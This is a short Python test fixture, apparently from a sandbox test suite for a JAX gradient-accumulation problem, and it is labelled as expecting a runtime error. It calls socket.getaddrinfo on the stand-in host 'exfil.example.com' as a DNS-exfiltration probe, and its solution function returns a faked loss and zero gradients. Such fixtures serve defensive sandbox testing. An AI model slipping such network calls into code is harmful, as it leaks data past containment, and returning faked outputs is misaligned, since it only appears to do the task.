# problem: gradient-accumulation-with-scan
# expect: runtime_error
# what: resolves a host name (DNS exfiltration)
import jax
import jax.numpy as jnp

import socket
print(socket.getaddrinfo('exfil.example.com', 80))


def grad_accumulation(params, x, y, num_microbatches):
    return {"loss": jnp.sum(x) * 0.0 + 1.0, "grads": jax.tree.map(jnp.zeros_like, params)}
